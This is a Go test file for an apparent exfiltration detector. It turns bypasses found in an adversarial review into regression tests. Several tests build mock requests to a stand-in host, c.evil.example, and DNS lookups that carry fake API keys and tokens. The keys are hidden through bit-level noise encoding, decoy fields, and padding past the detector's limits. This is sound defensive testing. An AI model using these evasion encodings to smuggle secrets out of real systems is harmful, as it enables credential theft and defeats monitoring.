package differential

// Bypasses an adversarial review of the noise rules found (each a hostile
// server's emissions that were reported as nothing), kept as tests: each
// must now be secret-derived, and each control stays so.

import (
	"crypto/sha256"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// bitsOf: the bits of s, MSB first.
func zzBits(s []byte) []int {
	var out []int
	for _, b := range s {
		for i := 7; i >= 0; i-- {
			out = append(out, int(b>>i&1))
		}
	}
	return out
}

// zzStats: a result listing "durations": the secret's bits spelled as
// 10 (0) or 50 (1), then pad random 6-digit numbers that vary every run.
func zzStats(phase string, secret string, pad int, rng *rand.Rand) Record {
	var parts []string
	for _, b := range zzBits([]byte(secret)) {
		parts = append(parts, []string{"10", "50"}[b])
	}
	for range pad {
		parts = append(parts, fmt.Sprint(100000+rng.IntN(900000)))
	}
	r := Record{Phase: phase, Channel: ChannelResult, Dest: "tools/call"}
	r.AddText("text", "["+strings.Join(parts, ",")+"]")
	return r
}

// Bypass 1 (now derived): a two-value alphabet makes every leaked bit one of only two
// (kind, primary, variant) triples, so the budget of four never trips;
// random padding makes the rate check pass however many bits differ.
// 128 bits per record, and the budget is shared (not reset) but the
// triples are the same in every record: 4 calls = 64 bytes.
func TestBypassKindNoiseBinaryAlphabet(t *testing.T) {
	secrets := [2]string{"ghp_R3alS3cr3t!!", "ghp_0therValue??"}
	for _, calls := range []int{1, 4} {
		var p, c, v []Record
		for i := range calls {
			ph := fmt.Sprintf("call:stats#%d", i)
			p = append(p, zzStats(ph, secrets[0][:12]+fmt.Sprint(1000+i), 384, rand.New(rand.NewPCG(1, uint64(i)))))
			c = append(c, zzStats(ph, secrets[0][:12]+fmt.Sprint(1000+i), 384, rand.New(rand.NewPCG(2, uint64(i)))))
			v = append(v, zzStats(ph, secrets[1][:12]+fmt.Sprint(2000+i), 384, rand.New(rand.NewPCG(3, uint64(i)))))
		}
		if got := Compare(p, c, v); len(got) != calls {
			t.Errorf("%d calls, %d bits in two values padded with noise: %d derived", calls, calls*128, len(got))
		}
	}
}

// post: an HTTP request with a JSON body.
func zzPost(body string) Record {
	r := Record{Phase: "startup", Channel: ChannelHTTP, Dest: "evil.example POST"}
	r.AddURL("https://c.evil.example/v1/e")
	r.AddField("header.content-length", fmt.Sprint(len(body)))
	r.AddText("body", body)
	return r
}

// Bypass 2 (now derived): fieldDiffs keeps the first maxFieldsDerived (8) differing
// fields only. Make the first eight kind noise (two triples: 10/50 by the
// bits of a hash of the secret, padded with random numbers), and the
// emission is dropped whole: the secret itself, in plain text after
// them, is never looked at.
func TestBypassKindNoiseHidesPlainSecret(t *testing.T) {
	body := func(secret string, seed uint64) string {
		h := sha256.Sum256([]byte(secret))
		var parts []string
		for _, b := range zzBits(h[:8]) {
			parts = append(parts, []string{"10", "50"}[b])
		}
		rng := rand.New(rand.NewPCG(seed, 9))
		for range 200 {
			parts = append(parts, fmt.Sprint(100000+rng.IntN(900000)))
		}
		return fmt.Sprintf(`{"a":[%s],"z":%q}`, strings.Join(parts, ","), secret)
	}
	const s1, s2 = "sk-ant-api03-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "sk-ant-api03-BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"
	p, c, v := zzPost(body(s1, 1)), zzPost(body(s1, 2)), zzPost(body(s2, 3))
	if got := Compare([]Record{p}, []Record{c}, []Record{v}); len(got) != 1 {
		t.Errorf("a secret after eight fields of noise: %+v", got)
	}
	// The control: without the noise prefix the secret is found.
	p, c, v = zzPost(fmt.Sprintf(`{"z":%q}`, s1)), zzPost(fmt.Sprintf(`{"z":%q}`, s1)), zzPost(fmt.Sprintf(`{"z":%q}`, s2))
	if got := Compare([]Record{p}, []Record{c}, []Record{v}); len(got) != 1 {
		t.Errorf("control: %+v", got)
	}
}

// Bypass 3 (now derived): dropShifted judges only the (at most 8) fields fieldDiffs kept.
// Each run sends three requests to the same place: the data, and two
// "calibration" bodies whose bit fields are all x and all y. Every bit
// value is then on both sides with the right surplus, the data request is
// "shifted", and the plain secret after the first 8 bit fields rides along.
func TestBypassShiftedHidesPlainSecret(t *testing.T) {
	run := func(secret string) []Record {
		h := sha256.Sum256([]byte(secret))
		enc := func(bits []int, extra string) string {
			var parts []string
			for _, b := range bits {
				parts = append(parts, []string{`"x"`, `"y"`}[b])
			}
			return fmt.Sprintf(`{"b":[%s]%s}`, strings.Join(parts, ","), extra)
		}
		marks := `,"m1":"d","m2":"d","m3":"d","m4":"d","m5":"d","m6":"d","m7":"d","m8":"d"`
		zero, one := make([]int, 64), make([]int, 64)
		for i := range one {
			one[i] = 1
		}
		return []Record{
			zzPost(enc(zzBits(h[:8]), marks+fmt.Sprintf(`,"z":%q`, secret))),
			zzPost(enc(zero, `,"k":"0"`)),
			zzPost(enc(one, `,"k":"1"`)),
		}
	}
	const s1, s2 = "AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY", "AKIAZZZZZZZZZZZZZZZZ/qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq"
	if got := Compare(run(s1), run(s1), run(s2)); len(got) == 0 {
		t.Error("a secret in a request whose bit fields are each on both sides: nothing derived")
	}
	// control: the data request alone is found.
	if got := Compare(run(s1)[:1], run(s1)[:1], run(s2)[:1]); len(got) != 1 {
		t.Errorf("control: %+v", got)
	}
}

// Older gaps the review noticed on the way, closed too.

// A: clockStep: decimal fields within 3 of each other are no difference,
// so numbers 0..3 carry 2 bits each and never differ "enough"; by many
// different steps, they are no clock.
func TestBypassClockStepTwoBitsPerNumber(t *testing.T) {
	enc := func(s string) Record {
		var parts []string
		for _, b := range []byte(s) {
			for i := 6; i >= 0; i -= 2 {
				parts = append(parts, fmt.Sprint(b>>i&3))
			}
		}
		return zzPost(`{"q":[` + strings.Join(parts, ",") + `]}`)
	}
	const s1, s2 = "sk-ant-api03-h7Qx2LmP9vT4kZ8wR1nB6yC3dF5gJ0sE", "sk-ant-api03-Xc4Vb8Nm2Qw7Er1Ty5Ui9Op3As6Df0Gk"
	if got := Compare([]Record{enc(s1)}, []Record{enc(s1)}, []Record{enc(s2)}); len(got) != 1 {
		t.Errorf("a secret in numbers 0 to 3: %+v", got)
	}
}

// B: Record.add drops fields past MaxFields (512) with no digest: pad the
// body with 520 constant keys and put the secret last (keys sort).
func TestBypassPastMaxFields(t *testing.T) {
	body := func(secret string) string {
		var b strings.Builder
		b.WriteString("{")
		for i := range 520 {
			fmt.Fprintf(&b, `"a%03d":1,`, i)
		}
		fmt.Fprintf(&b, `"zz":%q}`, secret)
		return b.String()
	}
	const s1, s2 = "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "ghp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"
	if got := Compare([]Record{zzPost(body(s1))}, []Record{zzPost(body(s1))}, []Record{zzPost(body(s2))}); len(got) != 1 {
		t.Errorf("a secret after 520 constant fields: %+v", got)
	}
}

// C: only the first maxPaired (64) records of a key are paired: 64
// identical lookups of the domain first, then the secret's.
func TestBypassPastMaxPaired(t *testing.T) {
	run := func(secret string) []Record {
		var rs []Record
		q := func(name string) Record {
			r := Record{Phase: "startup", Channel: ChannelDNS, Dest: "evil.example"}
			r.AddField("name", name)
			r.AddField("qtype", "A")
			return r
		}
		for range 64 {
			rs = append(rs, q("www.evil.example"))
		}
		return append(rs, q(secret+".evil.example"))
	}
	if got := Compare(run("6768705f41414141"), run("6768705f41414141"), run("6768705f42424242")); len(got) != 1 {
		t.Errorf("a secret's lookup after 64 others: %+v", got)
	}
}
